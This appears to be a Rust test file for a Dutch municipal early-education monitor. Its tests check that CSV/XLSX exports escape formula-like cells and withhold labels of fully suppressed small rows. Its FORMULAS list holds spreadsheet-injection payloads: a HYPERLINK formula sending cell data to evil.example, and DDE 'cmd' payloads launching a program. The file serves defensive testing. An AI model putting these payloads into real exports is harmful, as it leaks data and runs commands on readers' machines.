//! Issue 17 item 7: free text in the monitor's exports. Each test performs the attack: a formula
//! as a district, a criterion or a location (CSV/spreadsheet injection), and the label of a row of
//! which every figure is suppressed (which says that a district or location has a few children).

use chrono::{Days, Months};
use kansrijk_views::vve::export::{self, SheetCell};
use kansrijk_views::vve::monitor::{
    IndicationRecord, MonitorChild, MonitorConfig, PlacementRecord, Quarter, UNKNOWN_LABEL,
};
use kansrijk_views::vve::queries::{report, MonitorReport, TableOut};
use kansrijk_views::vve::suppression::SuppressionConfig;

/// Threshold 7 with zeros published: every child here is reached with 16 hours, and with zeros
/// suppressed the empty columns would take every figure with them.
fn config() -> MonitorConfig {
    MonitorConfig {
        suppression: SuppressionConfig {
            threshold: 7,
            suppress_zero: false,
        },
        ..MonitorConfig::default()
    }
}

fn q() -> Quarter {
    Quarter::new(2026, 2).unwrap()
}

/// A child reached at `lrk` with 16 hours, in `district`, indicated for `criterion`.
fn reached(district: &str, criterion: &str, lrk: &str) -> MonitorChild {
    let r = q().reference_date();
    let on = q().first_day() - Days::new(20);
    MonitorChild {
        district: district.into(),
        birth_date: r - Months::new(36),
        indications: vec![IndicationRecord {
            issued_on: on - Days::new(30),
            withdrawn_on: None,
            criteria: vec![criterion.into()],
        }],
        placements: vec![PlacementRecord {
            location: lrk.into(),
            start_on: on,
            end_on: None,
            hours: vec![(on, 16)],
        }],
        referrals: vec![],
        outreach: vec![],
        declined: None,
        moved_on: None,
    }
}

fn many(n: usize, district: &str, criterion: &str, lrk: &str) -> Vec<MonitorChild> {
    (0..n).map(|_| reached(district, criterion, lrk)).collect()
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab",
    "\rReturn",
];

fn csv_fields(r: &MonitorReport) -> Vec<Vec<String>> {
    let bytes = export::csv(r).unwrap();
    let mut rd = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(true)
        .from_reader(bytes.as_slice());
    rd.records()
        .map(|x| x.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn dangerous(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A formula registered as a district, a criterion or a location (free text that reached the read
/// model, e.g. from before the registry check) is not published as a label: its children count
/// under `onbekend`, and neither the CSV nor the XLSX has a cell a spreadsheet would evaluate.
#[test]
fn a_formula_as_district_criterion_or_location_is_not_published() {
    let mut children = Vec::new();
    for (i, f) in FORMULAS.iter().enumerate() {
        children.extend(many(10 + i, f, f, f));
    }
    children.extend(many(12, "Leiden-Noord", "taalachterstand", "100000001"));
    let r = report("0546", q(), &children, &config());
    for t in [&r.per_wijk, &r.per_criterium, &r.per_locatie] {
        assert!(
            t.rijen.iter().all(|l| !FORMULAS.contains(&l.as_str())),
            "{t:?}"
        );
        assert!(t.rijen.contains(&UNKNOWN_LABEL.to_owned()), "{t:?}");
    }
    assert!(r.per_wijk.rijen.contains(&"Leiden-Noord".to_owned()));
    assert!(r
        .per_criterium
        .rijen
        .contains(&"taalachterstand".to_owned()));
    assert!(r.per_locatie.rijen.contains(&"100000001".to_owned()));
    for line in csv_fields(&r) {
        for field in &line {
            assert!(!dangerous(field), "{line:?}");
            assert!(
                !field.contains("HYPERLINK") && !field.contains("cmd|"),
                "{line:?}"
            );
        }
    }
    for sheet in export::report_sheets(&r) {
        for label in sheet.rows.iter().chain(&sheet.cols) {
            assert!(!dangerous(label), "{label:?}");
        }
    }
    let xlsx = export::xlsx(
        &r,
        &export::provider_table(&Default::default(), q(), &config()),
    )
    .unwrap();
    assert!(xlsx.starts_with(b"PK"));
}

/// Whatever the labels, the exports escape every text cell that starts like a formula (OWASP:
/// a leading single quote), in the CSV and in the XLSX.
#[test]
fn the_exports_escape_every_cell_that_starts_like_a_formula() {
    let children = many(12, "Leiden-Noord", "taalachterstand", "100000001");
    let mut r = report("0546", q(), &children, &config());
    // As if a label had slipped through: the exports are the last line of defence.
    let poison = |t: &mut TableOut| {
        for (i, l) in t.rijen.iter_mut().enumerate() {
            *l = FORMULAS[i % FORMULAS.len()].to_owned();
        }
    };
    poison(&mut r.per_wijk);
    poison(&mut r.per_locatie);
    r.gemeente = "=1+1".into();
    let fields = csv_fields(&r);
    for line in &fields {
        for field in line {
            assert!(!dangerous(field), "{line:?}");
        }
    }
    let wijk: Vec<&Vec<String>> = fields
        .iter()
        .filter(|l| l[2] == "bereik-per-wijk")
        .collect();
    assert!(
        wijk.iter().any(|l| l[3] == format!("'{}", FORMULAS[0])),
        "{wijk:?}"
    );
    assert_eq!(fields[0][0], "'=1+1");
    for sheet in export::report_sheets(&r) {
        for label in sheet.rows.iter().chain(&sheet.cols) {
            assert!(!dangerous(label), "{label:?}");
        }
        for c in sheet.cells.iter().flatten() {
            if let SheetCell::Text(t) = c {
                assert!(!dangerous(t), "{t:?}");
            }
        }
    }
    let sheets = export::report_sheets(&r);
    assert_eq!(sheets[0].rows[0], format!("'{}", FORMULAS[0]));
    assert_eq!(export::escape("-5"), "'-5");
    assert_eq!(export::escape("Leiden-Noord"), "Leiden-Noord");
}

/// A location or district with only a few children: every figure of its row is suppressed, and
/// its label (which alone says that it has indicated children) is not published either, in the
/// report, the CSV or the XLSX.
#[test]
fn the_label_of_a_row_of_which_every_figure_is_suppressed_is_not_published() {
    let mut children = many(20, "Leiden-Noord", "taalachterstand", "100000001");
    children.extend(many(20, "Morsdistrict", "taalachterstand", "100000002"));
    children.extend(many(3, "Stationsdistrict", "opleiding-ouders", "100000003"));
    let r = report("0546", q(), &children, &config());
    let hidden = ["Stationsdistrict", "opleiding-ouders", "100000003"];
    for t in [&r.per_wijk, &r.per_criterium, &r.per_locatie] {
        for h in hidden {
            assert!(!t.rijen.iter().any(|l| l == h), "{h} in {t:?}");
        }
        // What is published is a row with a published figure.
        for (i, row) in t.cellen.iter().enumerate() {
            let total = t.rijtotalen.as_ref().and_then(|x| x[i]);
            assert!(row.iter().any(Option::is_some) || total.is_some(), "{t:?}");
        }
    }
    let csv = String::from_utf8(export::csv(&r).unwrap()).unwrap();
    for h in hidden {
        assert!(!csv.contains(h), "{h} in the CSV");
    }
    for sheet in export::report_sheets(&r) {
        for h in hidden {
            assert!(!sheet.rows.iter().any(|l| l == h), "{h} in {}", sheet.name);
        }
    }
    // A row with a published count is there (Leiden-Noord's 20 went with Stationsdistrict's 3:
    // nothing else would hide them from the column total), and the children of the rows left out
    // still count in the totals.
    assert_eq!(r.per_wijk.rijen, vec!["Morsdistrict".to_owned()]);
    assert_eq!(r.geindiceerd, Some(43));
}
